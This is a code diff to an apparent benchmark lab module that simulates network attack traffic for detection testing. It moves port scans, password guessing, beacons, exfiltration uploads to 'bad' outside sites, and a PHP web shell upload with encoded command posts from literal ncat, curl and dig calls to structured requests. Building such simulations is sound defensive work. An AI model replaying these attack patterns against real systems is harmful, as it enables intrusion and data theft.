@@ -5,10 +5,10 @@ from __future__ import annotations
 import random
 from collections.abc import Callable, Iterator
 
-from benchmarks.lab.habits import Occasion
+from benchmarks.lab.habits import Occasion, Request
 from benchmarks.lab.scenario import Attack
 from benchmarks.lab.services import PROGRAMS, tunnel_domain
-from benchmarks.lab.world import Step, words
+from benchmarks.lab.world import PAGES, Step, words
 
 Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last
 
@@ -37,9 +37,7 @@ def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     ports = (21, 22, 23, 25, 80, 110, 139, 143, 389, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
     after = 0.0
     while after < lasts:
-        yield o.step(
-            "slow-scan", "ncat", "-z", "-w", "2", o.rng.choice(targets), str(o.rng.choice(ports)), after=after
-        )
+        yield o.knock("slow-scan", o.rng.choice(targets), o.rng.choice(ports), after=after, wait=2.0)
         after += o.rng.uniform(2.0, 8.0) / attack.pace
 
 
@@ -81,12 +79,12 @@ def web_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Passwords of a page that asks for one."""
     sites = o.world.sites(inside=True)
     people = [a.name for a in o.world.actors]
+    by_program = o.by_program()
     after = 0.0
     while sites and after < lasts:
         who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
-        yield o.curl(
-            "web-guessing", "-u", who, "-o", "/dev/null", f"https://{sites[0]}/private/p0.html", after=after
-        )
+        page = {"url": f"https://{sites[0]}/private/p{o.rng.randrange(PAGES)}.html"}
+        yield o.web("web-guessing", page, auth=who, after=after, by_program=by_program)
         after += o.rng.uniform(0.2, 0.9) / attack.pace
 
 
@@ -94,10 +92,11 @@ def mail_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Passwords of mail boxes."""
     people = [a.name for a in o.world.actors]
     after = 0.0
+    by_program, secure = o.by_program(), o.rng.random() < 0.7
     found = o.server("mail")
     while found and after < lasts:
         who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
-        yield o.curl("mail-guessing", "-u", who, "-X", "NOOP", f"imaps://{found[1]}/INBOX", after=after)
+        yield o.mail_box("mail-guessing", found[1], who, secure=secure, after=after, by_program=by_program)
         after += o.rng.uniform(0.4, 1.5) / attack.pace
 
 
@@ -144,13 +143,16 @@ def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[
     site = o.rng.choice(o.world.bad_sites() or o.world.sites(inside=False))
     mean = 5.0 / attack.pace
     after = 0.0
-    path = o.rng.choice(("a0", "a1", "p3.html"))
+    by_program, apart = o.by_program(), o.rng.random() < 0.4
+    url = f"{scheme}://{site}/{o.rng.choice(('a0', 'a1', 'p3.html'))}"
     while after < lasts:
+        request: Request = {"url": url}
         if o.rng.random() < 0.2:
-            body = ("-d", "r=" + "".join(o.rng.choices("abcdef0123456789", k=o.rng.randrange(200, 900))))
+            result = "".join(o.rng.choices("abcdef0123456789", k=o.rng.randrange(200, 900)))
+            request |= {"method": "POST", "body": f"r={result}"}
         else:
-            body = ("-H", f"Cookie: id={o.rng.getrandbits(128):032x}")
-        yield o.curl(attack.kind, "-o", "/dev/null", *body, f"{scheme}://{site}/{path}", after=after)
+            request["headers"] = {"Cookie": f"id={o.rng.getrandbits(128):032x}"}
+        yield o.web(attack.kind, request, after=after, by_program=by_program, apart=apart)
         after += mean * o.rng.uniform(0.7, 1.3)
 
 
@@ -165,12 +167,11 @@ def beacon_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Orders asked for in host names."""
     domain = (o.world.bad_sites() or ["www.fastsync.example"])[0].split(".", 1)[1]
+    by_program = o.by_program()
     after = 0.0
     while after < lasts:
         name = f"{''.join(o.rng.choices('abcdefghijklmnopqrstuvwxyz234567', k=o.rng.randrange(12, 32)))}.{domain}"
-        yield o.step(
-            "dns-beacon", "dig", "+tries=1", "+time=2", name, o.rng.choice(("A", "TXT")), after=after
-        )
+        yield o.look_up("dns-beacon", (name, o.rng.choice(("A", "TXT"))), after=after, by_program=by_program)
         after += o.rng.uniform(3.0, 6.0) / attack.pace
 
 
@@ -184,30 +185,22 @@ def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A little at a time."""
     site = (o.world.bad_sites() or o.world.sites(inside=False))[0]
     after, number = 0.0, 0
+    by_program = o.by_program()
     while after < lasts:
-        yield o.curl(
-            "slow-upload",
-            "-T",
-            o.world.file(o.rng.choice((4, 16))),
-            f"https://{site}/files/b{number % 9}",
-            after=after,
-        )
+        piece = {"method": "PUT", "file": o.world.file(o.rng.choice((4, 16)))}
+        url = f"https://{site}/files/b{number % 9}"
+        yield o.web("slow-upload", {"url": url, **piece}, after=after, by_program=by_program)
         after, number = after + o.rng.uniform(6.0, 14.0) / attack.pace, number + 1
 
 
 def _pieces(o: Occasion, attack: Attack, lasts: float, url: str) -> Iterator[Step]:
     piece = min(attack.size_kb, 1024)
     count = max(1, attack.size_kb // piece)
+    by_program = o.by_program()
     for number in range(count):
         after = number * lasts / count
-        yield o.curl(
-            "upload-tls",
-            "-T",
-            o.world.file(piece),
-            f"{url}{o.rng.getrandbits(32):08x}",
-            after=after,
-            limit=max(60.0, lasts),
-        )
+        part = {"url": f"{url}{o.rng.getrandbits(32):08x}", "method": "PUT", "file": o.world.file(piece)}
+        yield o.web("upload-tls", part, after=after, limit=max(60.0, lasts), by_program=by_program)
 
 
 def upload_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -360,21 +353,21 @@ def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     host = o.rng.choice(hosts)
     first = (host.sites or ("www",))[0]
     site = f"{first}.{o.world.scenario.domain}" if host.inside else first
-    yield o.curl("web-shell", "-T", o.world.file(4), f"https://{site}/files/help{o.rng.randrange(99)}.php")
+    by_program = o.by_program()
+    script = {
+        "url": f"https://{site}/files/help{o.rng.randrange(99)}.php",
+        "method": "PUT",
+        "file": o.world.file(4),
+    }
+    yield o.web("web-shell", script, by_program=by_program)
     after = 3.0
     while after < lasts:
         order = "".join(
             o.rng.choices("ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", k=o.rng.choice((24, 60, 200, 1500)))
         )
-        yield o.curl(
-            "web-shell",
-            "-o",
-            "/dev/null",
-            "-d",
-            f"z0={order}",
-            f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php",
-            after=after,
-        )
+        url = f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php"
+        request = {"url": url, "method": "POST", "body": f"z0={order}"}
+        yield o.web("web-shell", request, after=after, by_program=by_program)
         after += o.rng.lognormvariate(1.2, 0.7) / attack.pace
 
 
